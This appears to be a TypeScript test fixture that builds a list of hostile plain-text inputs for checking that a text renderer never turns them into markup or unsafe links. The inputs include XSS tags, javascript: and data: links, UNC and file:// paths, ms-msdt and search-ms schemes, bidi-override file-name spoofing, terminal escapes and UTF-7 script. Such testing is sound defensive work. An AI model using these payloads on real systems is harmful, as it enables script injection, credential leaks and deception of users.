/** Hostile plain text: nothing in it may become markup, and only addresses of the web and of mail become links. */
import { base64, percent, references, SCRIPT } from "./kit";
import type { BodyVector } from "./rtf";

/** Every hostile text, against one server. */
export function textVectors({ host, href }: URL): readonly BodyVector[] {
  const url = `${href}hit`;
  const texts: Readonly<Record<string, string>> = {
    "an image": `<img src="${url}" onerror="${SCRIPT}">`,
    "a script": `<script>${SCRIPT}</script><script src="${url}"></script>`,
    "a whole page": `<html><head><base href="${url}"><link rel=stylesheet href="${url}"></head><body onload="${SCRIPT}">x`,
    "a frame": `<iframe src="${url}"></iframe><object data="${url}"></object>`,
    "a style sheet": `<style>@import "${url}"; body { background: url(${url}) }</style>`,
    "SVG and MathML": `<svg onload="${SCRIPT}"><image href="${url}"/></svg><math href="${url}">x</math>`,
    references: references(`<img src=${url} onerror=${SCRIPT}>`),
    "references of references": references(references(`<img src=${url}>`)),
    "a closed element": `</div></body></html><script>${SCRIPT}</script>`,
    comments: `<!--><img src=${url}>--><![CDATA[<img src=${url}>]]>`,
    "a link of script": `javascript:${SCRIPT} www.javascript:${SCRIPT} https://javascript:${SCRIPT}`,
    "a link in data:": `data:text/html;base64,${base64(`<script>${SCRIPT}</script>`)}`,
    "a link with quotes": `https://example.org/"onclick="${SCRIPT}"x='y'<script>${SCRIPT}</script>`,
    "a link with percent": `https://example.org/${percent(`"><script>${SCRIPT}</script>`)}`,
    "a file server": `\\\\${host}\\share\\a.png //${host}/share/a.png file://${host}/share/a.png`,
    "other schemes": `vbscript:x ms-msdt:/id ms-word:ofe|u|${url} search-ms:query=x smb://${host}/a command:workbench.action.quit vscode://x`,
    "an address with a command": `mailto:a@example.org?body=<script>${SCRIPT}</script> <a@example.org"onclick="${SCRIPT}>`,
    quotations: `${"> ".repeat(40)}<img src=${url}>\n>> <script>${SCRIPT}</script>\n> javascript:${SCRIPT}`,
    controls: `\u0000<img\u0000 src=${url}>\u0008\u001b]8;;${url}\u0007x\u001b]8;;\u0007\u2028<script>${SCRIPT}</script>`,
    directions: `\u202e<img src=${url}>\u202c \u2066https://example.org/\u202egpj.exe\u2069`,
    Markdown: `![x](${url}) [x](javascript:${SCRIPT}) <${url}> [ref]: ${url}`,
    "a content id": `cid:${url} [cid:image001.png@${host}] <cid:x@y>`,
    "UTF-7": `+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
    MIME: `Content-Type: text/html\n\n<img src="${url}">\n--x--`,
  };
  return Object.entries(texts).map(([name, body]) => ({ name, body }));
}
